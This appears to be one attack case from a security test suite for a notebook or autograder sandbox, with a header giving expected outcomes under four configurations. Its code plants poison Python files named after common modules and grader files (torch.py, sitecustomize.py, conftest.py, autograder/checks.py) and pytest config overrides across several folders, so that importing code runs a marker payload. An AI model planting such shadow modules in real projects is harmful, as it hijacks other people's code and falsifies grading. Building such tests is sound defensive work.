# /// attack
# tries = "Deja torch.py, autograder/, pytest.py, conftest.py y sitecustomize.py junto al cuaderno, para quien importe desde ahí"
# from = "user"
# expected = { a = "passed", b = "lost", c = "passed", d = "passed" }
# ///
# %%
from pathlib import Path
veneno = "from pathlib import Path\nPath('@VICTIM@/ejecutado').touch()\n"
for carpeta in (Path("."), Path(".."), Path("@FOLDER@"), Path("@OUT@")):
    for nombre in ("torch.py", "pytest.py", "conftest.py", "sitecustomize.py", "numpy.py", "json.py", "safetensors.py", "autograder/__init__.py",
                   "autograder/checks.py", "pytest.ini", "setup.cfg", "pyproject.toml", "lab.toml"):
        try:
            (carpeta / nombre).parent.mkdir(exist_ok=True)
            (carpeta / nombre).write_text(veneno if nombre.endswith(".py") else "[tool.pytest.ini_options]\naddopts = '--pyargs x'\n")
        except OSError:
            pass
